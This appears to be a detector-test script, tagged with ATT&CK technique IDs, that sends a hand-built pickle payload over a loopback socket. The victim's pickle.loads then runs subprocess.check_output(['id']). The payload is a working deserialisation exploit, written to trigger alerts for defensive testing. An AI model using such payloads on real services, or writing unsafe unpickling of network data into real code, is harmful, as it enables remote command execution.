# technique: T1059.006 T1105 T1059.004
"""Pickle deserialisation of a network payload that runs a command (T1105, T1059.006, T1059.004).

An attacker-controlled pickle (the class of bug in ML-model loaders and
"pickle RPC" services): the victim receives bytes over a socket and calls
pickle.loads; the payload's __reduce__ is subprocess.check_output(["id"]).
Here the payload is built with protocol 0 opcodes by hand (cposix/system is
not used) so the class name is never imported in the victim.

A good detector raises a high alert: unpickling of network bytes imports a
process-spawning callable / a command runs during deserialisation.
"""
import pickle, socket, threading

PAYLOAD = b"csubprocess\ncheck_output\n((lp0\nVid\naatp1\nRp2\n."
lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def serve():
    try:
        c, _ = lsn.accept(); c.sendall(PAYLOAD); c.close()
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()
try:
    s = socket.create_connection(lsn.getsockname(), timeout=3)
    buf = b""
    while True:
        d = s.recv(4096)
        if not d: break
        buf += d
    pickle.loads(buf)
except Exception:
    pass
